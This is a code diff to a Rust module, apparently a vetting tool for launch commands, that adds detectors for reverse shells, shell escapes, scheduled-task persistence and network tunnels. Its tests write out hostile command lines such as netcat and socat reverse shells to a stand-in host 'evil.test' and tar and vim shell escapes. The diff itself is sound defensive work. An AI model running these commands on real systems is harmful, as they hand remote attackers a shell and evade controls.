@@ -1,7 +1,9 @@
 //! Programs of a system that run what they are told by an option or an address: those of Windows that take a script, a
-//! library or a package from anywhere, and Git's settings.
+//! library or a package from anywhere, those that hand a shell to another machine, editors and archivers with a way to a
+//! program, tunnels, and Git's settings. None of them is a server; a launch that names one does what the option says.
 
 use super::loader::is_risky_setting;
+use crate::launch::line::is_shell;
 
 /// Index of the argument by which a program of Windows runs what lies on another machine, or stands in the line itself.
 pub(super) fn runs_remote(program: &str, args: &[&str]) -> Option<usize> {
@@ -16,12 +18,76 @@ pub(super) fn runs_remote(program: &str, args: &[&str]) -> Option<usize> {
     };
     let found: &dyn Fn(&str) -> bool = match program {
         "mshta" | "rundll32" => &|w| far(w) || script(w),
-        "wscript" | "cscript" | "hh" | "installutil" => &far,
+        "wscript" | "cscript" | "hh" | "installutil" | "certutil" | "bitsadmin" => &far,
         "regsvr32" => &|w| far(w) || w.get(..3).is_some_and(|f| f.eq_ignore_ascii_case("/i:") && far(&w[3..])),
         "msiexec" => &far,
         _ => return None,
     };
     args.iter().position(|a| found(a))
+}
+
+/// Index of the argument by which another machine gets a shell of this one.
+pub(super) fn hands_over(program: &str, args: &[&str]) -> Option<usize> {
+    match program {
+        "nc" | "ncat" | "netcat" | "nc.traditional" => {
+            let long = ["--exec", "--sh-exec", "--lua-exec"];
+            (0..args.len()).find(|at| {
+                let arg = args[*at];
+                let short = arg.starts_with('-') && !arg.starts_with("--");
+                // `-c` is encryption to some
+                let shell = args.get(at + 1).is_some_and(|a| is_shell(&crate::launch::line::program(a)));
+                (short && (arg.ends_with('e') || (arg.ends_with('c') && shell)))
+                    || long.contains(&arg.split('=').next().unwrap_or(arg))
+            })
+        }
+        "socat" => {
+            let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
+            let net = lower.iter().any(|a| ["tcp", "udp", "openssl", "ssl", "sctp"].iter().any(|p| a.starts_with(p)));
+            let runs = |a: &String| ["exec:", "system:", "shell:"].iter().any(|p| a.starts_with(p));
+            lower.iter().position(runs).filter(|_| net)
+        }
+        _ => None,
+    }
+}
+
+/// Index of the argument by which a program that is no server starts another one, now or later.
+pub(super) fn escapes(program: &str, args: &[&str]) -> Option<usize> {
+    let lower = |a: &str| a.to_ascii_lowercase();
+    let shell = |a: &&str| is_shell(&crate::launch::line::program(a));
+    let holds = |what: &'static str| args.iter().position(|a| lower(a).contains(what));
+    let is = |what: &'static [&'static str]| args.iter().position(|a| what.contains(&lower(a).as_str()));
+    match program {
+        "awk" | "gawk" | "mawk" | "nawk" => holds("system("),
+        "vi" | "vim" | "nvim" | "ex" | "view" => {
+            args.iter().position(|a| a.trim_start_matches('+').starts_with([':', '!']) && a.contains('!'))
+        }
+        "gdb" | "lldb" => args.iter().position(|a| ["shell ", "!", "platform shell"].iter().any(|p| a.starts_with(p))),
+        "tar" | "bsdtar" => holds("checkpoint-action=exec").or_else(|| holds("--to-command")),
+        "zip" => is(&["-tt", "--unzip-command"]),
+        "expect" => args.iter().position(|a| a.contains("spawn ") || a.contains("exec ")),
+        "find" => is(&["-exec", "-execdir", "-ok"]).filter(|at| args.get(at + 1).is_some_and(shell)),
+        "xargs" | "parallel" => args.iter().position(|a| shell(&a)),
+        "wmic" => is(&["create"]),
+        "forfiles" => is(&["/c"]),
+        "schtasks" => is(&["/create"]),
+        "crontab" => args.iter().position(|a| !a.starts_with('-')),
+        "launchctl" => is(&["load", "bootstrap", "submit"]),
+        "at" | "batch" => is(&["-f"]),
+        _ => None,
+    }
+}
+
+/// Index of the word by which a program makes a port of this machine reachable from the network.
+pub(super) fn tunnels(program: &str, args: &[&str]) -> Option<usize> {
+    let is = |what: &[&str]| args.iter().position(|a| what.contains(a));
+    match program {
+        "ngrok" => is(&["http", "tcp", "tls", "start"]),
+        "cloudflared" => is(&["tunnel"]).filter(|_| args.iter().any(|a| a.starts_with("--url"))),
+        "tailscale" => is(&["funnel"]),
+        "lt" | "localtunnel" => args.iter().position(|a| a.starts_with("--port") || *a == "-p"),
+        "ssh" => args.iter().position(|a| a.starts_with("-R")),
+        _ => None,
+    }
 }
 
 /// Index of a setting on Git's command line that runs a program.
@@ -79,6 +145,44 @@ mod tests {
         ] {
             assert_eq!(runs_remote(program, &args), None, "{program} {args:?}");
         }
+    }
+
+    #[test]
+    fn programs_that_are_no_servers_are_told_from_those_that_only_carry_words() {
+        for (program, args) in [
+            ("nc", vec!["-e", "/bin/sh", "evil.test", "1"]),
+            ("nc", vec!["-lvpe", "/bin/sh"]),
+            ("ncat", vec!["evil.test", "1", "--sh-exec", "/bin/bash"]),
+            ("socat", vec!["exec:/bin/sh", "tcp:evil.test:1"]),
+        ] {
+            assert!(hands_over(program, &args).is_some(), "{program} {args:?}");
+        }
+        for (program, args) in [
+            ("nc", vec!["localhost", "8080"]),
+            ("nc", vec!["-c", "a.test", "443"]),
+            ("nc", vec!["-U", "/run/x.sock"]),
+            ("socat", vec!["STDIO", "TCP:host.docker.internal:8811"]),
+            ("socat", vec!["-", "EXEC:./server"]),
+            ("node", vec!["-e", "x"]),
+        ] {
+            assert_eq!(hands_over(program, &args), None, "{program} {args:?}");
+        }
+        for (program, args) in [
+            ("awk", vec!["BEGIN{system(\"id\")}"]),
+            ("vim", vec!["-c", ":!sh"]),
+            ("tar", vec!["xf", "a", "--checkpoint-action=exec=sh"]),
+            ("find", vec!["/", "-exec", "sh", "-c", "x", ";"]),
+            ("schtasks", vec!["/Create", "/tr", "x"]),
+            ("xargs", vec!["-a", "x", "bash", "-c"]),
+        ] {
+            assert!(escapes(program, &args).is_some(), "{program} {args:?}");
+        }
+        for (program, args) in [("awk", vec!["{print $1}"]), ("crontab", vec!["-l"]), ("find", vec![".", "-name", "x"])]
+        {
+            assert_eq!(escapes(program, &args), None, "{program} {args:?}");
+        }
+        assert!(tunnels("ngrok", &["http", "80"]).is_some() && tunnels("ssh", &["-R80:localhost:1", "h"]).is_some());
+        assert!(tunnels("ssh", &["-T", "h", "node"]).is_none() && tunnels("cloudflared", &["access", "ssh"]).is_none());
     }
 
     #[test]
